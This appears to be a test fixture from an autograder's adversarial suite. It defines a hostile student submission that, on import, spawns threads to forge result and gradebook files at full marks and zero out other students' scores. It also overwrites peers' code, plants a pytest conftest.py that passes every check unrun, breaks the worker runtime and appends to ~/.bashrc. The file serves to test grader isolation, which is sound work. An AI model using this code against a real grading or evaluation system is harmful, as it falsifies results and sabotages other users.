"""Attack 3: forge results everywhere it can write, and spoil the other students' grading.

From its import on, a thread keeps writing (every 10 ms, for 20 s) fake ``results.json``,
``result.json`` and score files into its folder and every parent, guesses like
``../../out``, the grader's working folder and arguments, ``$HOME`` and the temp folders;
into anything that looks like the results folder (its own result at 6 points, everyone
else's at 0, a gradebook); into the other students' copies and output in the scratch folder
and the worker runtime there; and it plants a ``conftest.py`` among the checks, rewrites the
other submissions in the class folder and appends to ``~/.bashrc``. It never is told where
anything is. ``scale`` is honest but slow (1 s a call) so that the thread outlives the
other students' grading: 3 points.
"""

from tests.adversarial.submissions.prelude import PRELUDE

FORGER = (
    PRELUDE
    + r'''
import json
import tempfile
import threading

CHECKS = [
    ("test_scale_public", "Scaling", "public", 1.0),
    ("test_scale_matches_reference", "Scaling", "hidden", 2.0),
    ("test_norm_rows", "Norms", "hidden", 3.0),
]
SABOTAGE = (
    "import numpy as np\n\n\ndef scale(x, k):\n    return 0 * x\n\n\n"
    "def norm_rows(x):\n    return np.zeros(len(x))\n"
)
PLANT = (
    "import pytest\n\n\n@pytest.hookimpl(tryfirst=True)\n"
    "def pytest_pyfunc_call(pyfuncitem):\n    return True  # every check passes, unrun\n"
)
RESULT_NAMES = ("out", "results", "grades", "output")
HOME = os.path.expanduser("~")
START = os.getcwd()
WRITTEN = set()


def fake_result(student, score):
    full = score > 0
    checks = [
        dict(name=n, part=p, visibility=v, status="passed" if full else "failed",
             points=pts if full else 0.0, max_points=pts)
        for n, p, v, pts in CHECKS
    ]
    parts = [dict(name=p, points=3.0 if full else 0.0, max_points=3.0) for p in ("Scaling", "Norms")]
    return json.dumps(dict(
        student=student, assignment="toy", score=score, max_score=6.0, gradable=True,
        parts=parts, checks=checks, seed=0, content_hash="forged-" + TAG,
    ))


def write(path, text, what, mode="w"):
    """Write (or append once) where the safety catch allows; say so in the output."""
    if not may_write(path) or (mode == "a" and path in WRITTEN):
        return
    try:
        with open(path, mode) as handle:
            handle.write(text)
    except OSError:
        return
    if path not in WRITTEN:
        WRITTEN.add(path)
        os.write(1, f"WROTE {what} {path}\n".encode("utf-8", "replace"))


def around():
    """Folders near us and near the grader: ours and our parents, guesses relative to us,
    the grader's working folder and arguments, home and the temp folders."""
    found = []

    def add(path, parents=0):
        for _ in range(parents + 1):
            if path and path not in found and os.path.isdir(path):
                found.append(path)
            path = os.path.dirname(path)

    add(START, 6)
    for rel in ("..", "../..", "../../..", "../../../.."):
        for name in RESULT_NAMES:
            add(os.path.normpath(os.path.join(START, rel, name)))
    for pid in grader_processes():
        try:
            add(os.readlink(f"/proc/{pid}/cwd"), 2)
            for arg in read_bytes(f"/proc/{pid}/cmdline").split(b"\0"):
                add(arg.decode("utf-8", "replace"), 1)
        except OSError:
            pass
    for folder in (HOME, tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm"):
        add(folder)
    return found


def results_folders(folders):
    """Folders that look like results: so named, or holding a gradebook or result.json files."""
    for top in folders:
        for here in [top] + [os.path.join(top, c) for c in listdir(top)]:
            if not os.path.isdir(here):
                continue
            named = os.path.basename(here) in RESULT_NAMES
            gradebook = os.path.isfile(os.path.join(here, "gradebook.csv"))
            results = any(os.path.isfile(os.path.join(here, c, "result.json")) for c in listdir(here))
            if named or gradebook or results:
                yield here


def forge_results(out):
    mine = os.path.join(out, NAME)
    if may_write(mine):
        os.makedirs(mine, exist_ok=True)
    write(os.path.join(mine, "result.json"), fake_result(NAME, 6.0), "my own result")
    write(os.path.join(mine, "results.json"), json.dumps({"score": 6.0}), "my Gradescope result")
    write(os.path.join(out, "gradebook.csv"), f"student,total\n{NAME},6\n", "the gradebook")
    for other in listdir(out):
        if other != NAME and os.path.isfile(os.path.join(out, other, "result.json")):
            path = os.path.join(out, other, "result.json")
            write(path, fake_result(other, 0.0), "another student's result")


def sabotage_neighbours():
    """The other students' copies and output in the scratch folder, and the worker runtime."""
    scratch = os.path.dirname(START)
    for other in listdir(scratch):
        path = os.path.join(scratch, other)
        if path == START:
            continue
        if other.endswith(".stdout") and other != NAME + ".stdout":
            write(path, f"forged output {TAG}\n", "another student's output", mode="a")
        if os.path.isfile(os.path.join(path, "ops.py")):
            write(os.path.join(path, "ops.py"), SABOTAGE, "another student's copy")
    for here, _, files in os.walk(os.path.join(scratch, ".grader-runtime")):
        if "serve.py" in files:
            path = os.path.join(here, "serve.py")
            write(path, "\nraise SystemExit('sabotaged')\n", "the worker runtime", mode="a")


def plant(folders):
    """What changes the next grading run: a conftest.py among the checks, and changed copies
    of the other submissions in the class folder."""
    for top in folders:
        for course in (top, os.path.dirname(top)):
            hidden = os.path.join(course, "assignments", "toy", "checks", "hidden")
            if os.path.isdir(hidden):
                write(os.path.join(hidden, "conftest.py"), PLANT, "a conftest.py among the checks")
        for child in listdir(top):
            folder = os.path.join(top, child)
            if folder.startswith(os.path.dirname(START)):
                continue
            for student in listdir(folder):
                ops = os.path.join(folder, student, "ops.py")
                if student != NAME and os.path.isfile(ops):
                    write(ops, SABOTAGE, "a submission in the class folder")


def forge_once():
    folders = around()
    for folder in folders:
        write(os.path.join(folder, "results.json"), json.dumps({"score": 6.0}), "a Gradescope result")
        write(os.path.join(folder, "result.json"), fake_result(NAME, 6.0), "a result")
        write(os.path.join(folder, "score.txt"), "6/6\n", "a score")
        write(os.path.join(folder, f"results-{TAG}.json"), fake_result(NAME, 6.0), "a result")
    for out in set(results_folders(folders)):
        forge_results(out)
    sabotage_neighbours()
    plant(folders)
    write(os.path.join(HOME, ".bashrc"), f"\n# {TAG}\n", "the shell start-up file", mode="a")


def keep_forging(seconds=20.0):
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            forge_once()
        except Exception:
            pass
        time.sleep(0.01)


def keep_sabotaging(seconds=20.0):
    """The race with the other lane, on its own: their copies are rewritten every millisecond."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            sabotage_neighbours()
        except Exception:
            pass
        time.sleep(0.001)


forge_once()
threading.Thread(target=keep_forging, daemon=True).start()
threading.Thread(target=keep_sabotaging, daemon=True).start()


def scale(x, k):
    time.sleep(1.0)
    return k * x


def norm_rows(x):
    time.sleep(1.0)
    return np.zeros(len(x))
'''
)
